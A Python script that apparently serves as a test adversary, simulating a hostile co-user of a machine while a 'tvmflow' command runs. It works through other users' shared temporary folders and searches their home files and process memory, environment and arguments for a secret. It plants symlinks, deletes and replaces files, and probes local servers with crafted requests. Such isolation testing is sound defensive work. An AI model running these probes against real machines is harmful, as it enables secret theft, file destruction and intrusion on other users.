"""What another user of the machine tries while a command runs: `python hostile_user.py PLAN`, a file of JSON.

Needs no package. Writes each success to the plan's `results` until the file `stop` exists.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path

_REQUESTS = (
    b"POST /api/flow_runs/filter HTTP/1.0\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
    b"POST /api/flows/ HTTP/1.0\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 18\r\n\r\n"
    b'{"name":"planted"}',
    b"GET /api/admin/settings HTTP/1.0\r\nHost: x\r\nAuthorization: Basic " + base64.b64encode(b"a:b") + b"\r\n\r\n",
    b"POST /api/flows/filter HTTP/1.0\r\nHost: 127.0.0.1/api/health\r\nContent-Length: 2\r\n\r\n{}",
    (0xFF271).to_bytes(4, "little") + (6).to_bytes(4, "little") + b"client",  # TVM's RPC
    b"\0" * 64,
)
_MINE = os.getuid()
_SHARED = [Path("/tmp"), Path("/dev/shm"), Path("/var/tmp")]  # noqa: S108
_MOST = 1 << 24
done: set[str] = set()
tried = {"folders": 0, "connections": 0, "links": 0, "writes": 0, "processes": 0, "files": 0}


def read_folders(user: int) -> None:
    """List, read and change what the user has in shared folders."""
    for place in _SHARED:
        for path in _below(place, deep=False):
            with contextlib.suppress(OSError):
                if path.lstat().st_uid != user:
                    continue
                tried["folders"] += 1
                if path.is_dir():
                    done.add(f"listed {path}: {[one.name for one in path.iterdir()][:3]}")
                elif path.read_bytes():
                    done.add(f"read {path}")


def search(user: int, home: Path, secret: bytes) -> None:
    """Look for a secret in all that can be read of the user's files and processes, and for files to write to."""
    for path in _below(home, deep=True):
        with contextlib.suppress(OSError):
            status = path.lstat()
            if status.st_uid != user or path.is_symlink() or not path.is_file():
                continue
            tried["files"] += 1
            if os.access(path, os.W_OK):
                done.add(f"may write {path}")
            if os.access(path, os.R_OK) and status.st_size < _MOST and secret in path.read_bytes():
                done.add(f"read a secret in {path}")
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if process.stat().st_uid != user:
                continue
            tried["processes"] += 1
            if secret in (process / "cmdline").read_bytes():
                done.add(f"read a secret in the arguments of {process.name}")
            for name in ("environ", "mem", "fd/1"):
                with contextlib.suppress(OSError), (process / name).open("rb") as file:
                    done.add(f"opened {name} of {(process / 'comm').read_text().strip()}: {file.name}")


def plant(places: list[Path], victim: Path, workspace: Path) -> None:
    """Put links and files where the command might write, or read, next, and take away what is there."""
    for name in ("local.lock", "measure.lock", "host.lock", "device.lock", "tvmflow-run.json"):
        for place in places:
            with contextlib.suppress(OSError):
                (place / name).symlink_to(victim)
                tried["links"] += 1
    for place in places:
        for path in _below(place, deep=False):
            with contextlib.suppress(OSError):
                if path.lstat().st_uid in (0, _MINE) or path.is_symlink():
                    continue
                tried["links"] += 1
                with contextlib.suppress(OSError):
                    path.unlink()
                    path.symlink_to(victim)
                    done.add(f"replaced {path}")
                with contextlib.suppress(OSError):
                    path.rename(place / "moved")
                    done.add(f"moved {path}")
    for name in ("params.yaml", "artifacts", ".prefect", ".dvc/config", "mlruns", "pipelines"):
        with contextlib.suppress(OSError):
            tried["writes"] += 1
            (workspace / name / "planted" if (workspace / name).is_dir() else workspace / name).write_text("planted")
            done.add(f"wrote {workspace / name}")


def connect() -> None:
    """Talk to each server that listens on this machine and belongs to somebody else."""
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] != "0A" or int(fields[7]) in (0, _MINE):
            continue
        port = int(fields[1].split(":")[1], 16)
        for request in _REQUESTS:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as peer:
                tried["connections"] += 1
                peer.sendall(request)
                answer = peer.recv(300)
                if answer.startswith(b"HTTP/") and answer.split(b" ")[1][:1] == b"2":
                    done.add(f"port {port} answers {request[:40]!r} with {answer[:60]!r}")
                if not answer.startswith(b"HTTP/") and len(answer) > 4:
                    done.add(f"port {port} sends {answer[:40]!r}")
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        name = line.split()[-1]
        if name.startswith("@tvmflow"):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as peer:
                tried["connections"] += 1
                peer.connect("\0" + name[1:])
                peer.settimeout(2)
                peer.sendall(_REQUESTS[-1])
                if peer.recv(10):
                    done.add(f"{name} answers")


def _below(place: Path, deep: bool) -> Iterator[Path]:
    with contextlib.suppress(OSError):
        for path in list(place.iterdir()):
            yield path
            if deep and not path.is_symlink() and path.is_dir():
                yield from _below(path, deep)


def main() -> None:
    plan = json.loads(Path(sys.argv[1]).read_text())
    stop, victim, workspace = Path(plan["stop"]), Path(plan["victim"]), Path(plan["workspace"])
    user = victim.stat().st_uid
    places = [Path(place) for place in plan["places"]]
    while not stop.exists():
        read_folders(user)
        search(user, Path(plan["home"]), plan["secret"].encode())
        plant(places, victim, workspace)
        connect()
        time.sleep(0.1)
    Path(plan["results"]).write_text(json.dumps({"done": sorted(done), "tried": tried}))


main()
